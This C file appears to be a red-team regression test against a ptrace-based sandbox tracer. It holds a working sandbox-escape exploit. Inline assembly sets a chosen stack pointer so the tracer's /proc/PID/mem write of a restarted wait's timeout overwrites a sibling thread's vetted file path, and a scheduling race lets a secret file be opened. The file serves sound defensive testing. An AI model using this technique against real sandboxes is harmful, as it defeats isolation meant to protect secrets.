/* tr_retime.c: the tracer's own write, aimed by the program (red team 5, issue 11).
 *
 * A timed wait (rt_sigtimedwait with a timeout) that a stop of the tracer's, or a signal the
 * task ignores, ends with EINTR is restarted by the tracer with the time it had left
 * (Tracer._retime): it writes the remaining struct timespec 16 bytes below the red zone of the
 * task's stack -- at (rsp - 128 - 16) & ~15 -- and points the call at it.  The stack pointer is
 * the program's to choose: a raw syscall instruction with rsp anywhere.  The tracer wrote
 * through /proc/PID/mem, which forces its way through page protections: so the program had the
 * tracer write 16 bytes of its choosing (tv_sec: any 8 bytes with the top bit clear) into its
 * read-only scratch area -- into a sibling's slot, where the tracer had just put the checked
 * copy of that sibling's open and from where the kernel is about to read it.
 *
 *   usage: tr_retime DIR        (len(DIR) + 1 a multiple of 16; DIR/s/f is the secret)
 *
 * Thread B (SCHED_IDLE, pinned to one CPU beside a spinning thread, so that once let go it
 * waits for the CPU) opens DIR/dNNNN, a permitted name.  In a tree of several tasks the open
 * is held: the tracer copies "DIR/dNNNN" into B's slot and lets B go.  Thread D sees the copy
 * appear in the slot (the area is readable) and sends thread A a signal A ignores; A sits in
 * rt_sigtimedwait with its stack pointer 144 bytes above the copy's "dNNNN", and a timeout
 * whose tv_sec reads "s/f\0\0\0\0\0".  The tracer restarts A's wait, writing that timespec over
 * "dNNNN": B's open, when it runs, opens DIR/s/f.
 *
 * Without a tracer there is no scratch area: the control opens DIR/s/f, the name the write
 * would make (the secret is there, readable).  Traced: BLOCKED when no attempt got the
 * secret (the retime no longer writes where the task itself could not).
 */
#include "attack.h"

#include <sched.h>
#include <sys/prctl.h>

#define SCRATCH_BASE 0x100000000000UL /* engine/scratch.py BASE */
#define SLOT_SIZE (256UL * 1024)
#define PATH1 32 /* a held open's path in its slot */
#define SLOTS_SCANNED 64
#define ATTEMPTS 40

static const char *dir;
static size_t at;                   /* offset of "dNNNN" in the path: a multiple of 16 */
static char slot_path_a[4096];      /* B's path of the current attempt */
static volatile char *slot_text;    /* where B's held path is: its slot + PATH1 */
static volatile pid_t tid_a, tid_b;
static volatile int round_no, a_entered, a_left; /* A's waits: started, entered, left */
static volatile int attempt, b_done, spinning = 1;
static volatile int got, opened, refused, missed;
static volatile int go_hog, tries, corrupted;         /* B is about to call: H spins */
static volatile char expected[8];   /* the name of the current attempt */
static char got_where[4096];

static void pin(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
}

static int scratch_mapped(void) {
    FILE *f = fopen("/proc/self/maps", "r");
    char line[512];
    int found = 0;
    while (f && fgets(line, sizeof line, f))
        if (strtoul(line, NULL, 16) == SCRATCH_BASE)
            found = 1;
    if (f)
        fclose(f);
    return found;
}

/* A: a timed wait with the stack pointer where the tracer's retime write lands on B's copy. */
static void *waiter(void *arg) {
    (void)arg;
    tid_a = gettid();
    static struct timespec ts;
    static uint64_t set = 1UL << (SIGUSR2 - 1);
    memcpy(&ts.tv_sec, "s/f\0\0\0\0\0", 8);
    ts.tv_nsec = 999999999;
    for (int mine = 0;;) {
        while (round_no == mine)
            ;
        mine = round_no;
        unsigned long sp = (unsigned long)slot_text + at + 128 + 16;
        register long r10 asm("r10") = 8;
        long ret;
        a_entered = mine;
        asm volatile("mov %%rsp, %%r12\n\t"
                     "mov %[sp], %%rsp\n\t"
                     "syscall\n\t"
                     "mov %%r12, %%rsp"
                     : "=a"(ret)
                     : "a"((long)SYS_rt_sigtimedwait), "D"(&set), "S"(0L), "d"(&ts), "r"(r10),
                       [sp] "r"(sp)
                     : "rcx", "r11", "r12", "memory");
        (void)ret;
        a_left = mine;
    }
    return NULL;
}

/* B: the permitted open, slow to run once let go. */
static void *opener(void *arg) {
    (void)arg;
    tid_b = gettid();
    pin(0);
    struct sched_param none = {0};
    sched_setscheduler(0, SCHED_IDLE, &none);
    int seen = 0;
    for (;;) {
        while (attempt == seen)
            ;
        seen = attempt;
        if (slot_text)
            go_hog = 1;
        int fd = (int)syscall(SYS_openat, AT_FDCWD, slot_path_a, O_RDONLY);
        if (fd >= 0) {
            if (is_secret_fd(fd)) {
                if (!got++)
                    snprintf(got_where, sizeof got_where, "%s", fd_name(fd));
            } else {
                opened++;
            }
            close(fd);
        } else if (errno != ENOENT) {
            refused++;
        }
        b_done = seen;
    }
    return NULL;
}

/* H: shares B's CPU.  Polling (a short sleep) until B is about to call, then spinning: B,
 * let go by the tracer, waits for the CPU.  H sends A the ignored signal once the tracer has
 * put B's copy in the slot, and spins until the tracer's write lands on it (or 50 ms). */

static void *hog(void *arg) {
    (void)arg;
    pin(0);
    prctl(PR_SET_TIMERSLACK, 1UL, 0UL, 0UL, 0UL);
    struct timespec tick = {0, 1000};
    while (spinning) {
        if (!go_hog) {
            nanosleep(&tick, NULL);
            continue;
        }
        double give_up = now_s() + 1;
        while (memcmp((const char *)slot_text + at, (const char *)expected, 5) != 0 &&
               now_s() < give_up)
            ;
        if (memcmp((const char *)slot_text + at, (const char *)expected, 5) != 0)
            missed++;
        syscall(SYS_tgkill, getpid(), tid_a, SIGUSR1);
        give_up = now_s() + 0.05;
        while (slot_text[at] == expected[0] && now_s() < give_up)
            ;
        go_hog = 0;
    }
    return NULL;
}

static void find_slot(void) {
    /* B's first open maps the area and lands in its slot: find it there */
    snprintf(slot_path_a, sizeof slot_path_a, "%s/dinit", dir);
    attempt = 1;
    while (b_done != 1)
        usleep(1000);
    if (!scratch_mapped())
        return;
    for (unsigned long i = 0; i < SLOTS_SCANNED && !slot_text; i++) {
        const char *p = (const char *)(SCRATCH_BASE + i * SLOT_SIZE + PATH1);
        if (strcmp(p, slot_path_a) == 0)
            slot_text = (volatile char *)p;
    }
}

int main(int argc, char **argv) {
    if (argc != 2)
        usage("tr_retime DIR");
    dir = argv[1];
    at = strlen(dir) + 1;
    if (at % 16)
        usage("tr_retime DIR (len(DIR) + 1 must be a multiple of 16)");
    signal(SIGUSR1, SIG_IGN);
    sigset_t usr2;
    sigemptyset(&usr2);
    sigaddset(&usr2, SIGUSR2);
    pthread_sigmask(SIG_BLOCK, &usr2, NULL); /* every thread: A takes it by its wait */
    pthread_t a, b, h;
    pthread_create(&b, NULL, opener, NULL);
    pthread_create(&h, NULL, hog, NULL);
    pthread_create(&a, NULL, waiter, NULL);
    find_slot();
    if (!slot_text) {
        char target[4096];
        snprintf(target, sizeof target, "%s/s/f", dir);
        note("no scratch area (not traced, or the open was not held): open %s", target);
        try_open("the name the write makes", target);
        tally_done();
    }
    note("B's slot copy at %p", (void *)slot_text);
    double until = now_s() + 10;
    for (int i = 0; i < ATTEMPTS && !got && now_s() < until; i++) {
        round_no = i + 1;
        while (a_entered != i + 1)
            ;
        usleep(3000); /* A's entry stop noted its deadline */
        char name[16];
        snprintf(name, sizeof name, "d%04d", i);
        memcpy((char *)expected, name, 6);
        snprintf(slot_path_a, sizeof slot_path_a, "%s/%s", dir, name);
        attempt = i + 2;
        while (b_done != i + 2)
            usleep(100);
        tries++;
        if (slot_text[at] != 'd')
            corrupted++, note("%d: slot %.8s", i, (const char *)slot_text + at);
        if (a_left != i + 1)
            syscall(SYS_tgkill, getpid(), tid_a, SIGUSR2);
        while (a_left != i + 1)
            usleep(100);
    }
    spinning = 0;
    if (got)
        escaped("%d of the held opens of DIR/dNNNN gave the secret (fd -> %s)", got, got_where);
    blocked("no held open gave the secret (%d opened another file, %d refused, %d copies not"
            " seen; %d tries, %d copies written over)", opened, refused, missed, tries, corrupted);
}
